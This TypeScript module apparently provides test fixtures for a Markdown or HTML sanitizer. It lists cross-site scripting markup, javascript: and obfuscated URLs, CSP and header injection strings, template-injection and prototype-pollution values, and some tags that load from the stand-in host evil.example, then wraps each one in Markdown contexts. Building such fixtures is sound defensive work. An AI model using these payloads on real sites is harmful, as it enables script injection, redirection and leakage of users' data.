/** Content that people might write or paste, which tries to run code, to send something or to mislead. */

const MARKUP = [
  '<script>hostile()</script>',
  '</script><script>hostile()</script>',
  '<!--<script>--><script>hostile()</script>',
  '</title></style></textarea></template></noscript><script>hostile()</script>',
  '<svg onload=hostile()>',
  '<math><mtext></p><script>hostile()</script></mtext></math>',
  '<img src="x" onerror="hostile()',
  '<input autofocus onfocus=hostile()>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<object data="https://evil.example/"></object>',
  '<link rel="stylesheet" href="https://evil.example/">',
  '<style>@import "https://evil.example/";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta charset="utf-8"><meta http-equiv="content-security-policy" content="">',
  '<form action="https://evil.example/"><button formaction="https://evil.example/">x</button>',
  '<a href="https://evil.example/" ping="https://evil.example/">x</a>',
  '<picture><source srcset="https://evil.example/x.png"><img src="/x.png"></picture>',
  '<video poster="https://evil.example/x.png"></video>',
  '<div style="background:url(https://evil.example/)">x</div>',
  '<astro-island component-url="data:text/javascript,hostile()" client="load"></astro-island>',
  '&lt;script&gt;hostile()&lt;/script&gt;',
  '<scr\0ipt>hostile()</script>',
  '<SCRIPT\n>hostile()</SCRIPT >',
  '<noscript><p title="</noscript><script>hostile()</script>">',
];

const ADDRESSES = [
  'javascript:hostile()',
  ' JaVa\tScRiPt:hostile()',
  '&#106;avascript:hostile()',
  'data:text/html,<script>hostile()</script>',
  '//pictures.example/x.png',
  '/\\evil.example/x.png',
  '/\t/evil.example/x.png',
  'https://evil.example@good.example/x.png',
  "https://a;script-src'unsafe-inline'/x.png",
  'https://a;form-action/f',
  'https://*.evil.example/x.png',
  'https://a"b/x.png',
  'https://a%3Bb/x.png',
  'https://pictures。example/x.png',
  'https://müller.example/x.png',
  'https://pictures.example/x.png"onerror="hostile()',
  'https://pictures.example/x.png?;script-src *',
  '/x.png?"onerror=hostile()//',
  "#'onclick='hostile()",
];

const TEXTS = [
  '"\'`<',
  '$&$`$1',
  `\${hostile()}`,
  `{{constructor.constructor('hostile()')()}}`,
  '{__proto__}',
  '__proto__',
  `"onmouseover="hostile()`,
  `' autofocus onfocus=hostile() x='`,
  `"};hostile();//`,
  '*/hostile()/*',
  ']]><script>hostile()</script>',
  '<?xml-stylesheet href="#"?>',
  '\u2028hostile()\u2029\u202e',
  '\ud800\u0000',
  '\ufeff＜script＞hostile()＜/script＞',
  '- [x](javascript:hostile())',
  '%3Cscript%3Ehostile()%3C/script%3E',
  '\r\nSet-Cookie: a=b',
  '<?php hostile() ?>',
];

const PAYLOADS = [...MARKUP, ...ADDRESSES, ...TEXTS];

/** Values for fields of content. */
export const hostileValues: readonly string[] = [
  ...PAYLOADS,
  ...PAYLOADS.map((payload) => `A text"'> ${payload}`),
  ...PAYLOADS.map((payload) => `</p></div>${payload}`),
];

/** Markdown around a payload. */
const CONTEXTS: ((payload: string) => string)[] = [
  (payload) => `Words ${payload} and **${payload}**`,
  (payload) => `[link](<${payload}>) and [one more][ref]\n\n[ref]: <${payload}> "${payload}"`,
  (payload) => `![picture](${payload} "${payload}")`,
  (payload) => `<img alt='x' src='${payload}'>`,
  (payload) => `<p title="${payload}">words</p>`,
  (payload) => `## ${payload}`,
  (payload) => `| ${payload} | b |\n|---|---|\n| 1 | ${payload} |`,
  (payload) => `\`${payload}\`\n\n~~~~html ${payload}\n${payload}\n~~~~`,
  (payload) => `Words[^1].\n\n[^1]: ${payload}`,
];

export const hostileTexts: readonly string[] = [
  ...PAYLOADS,
  ...CONTEXTS.flatMap((around) => PAYLOADS.map(around)),
];
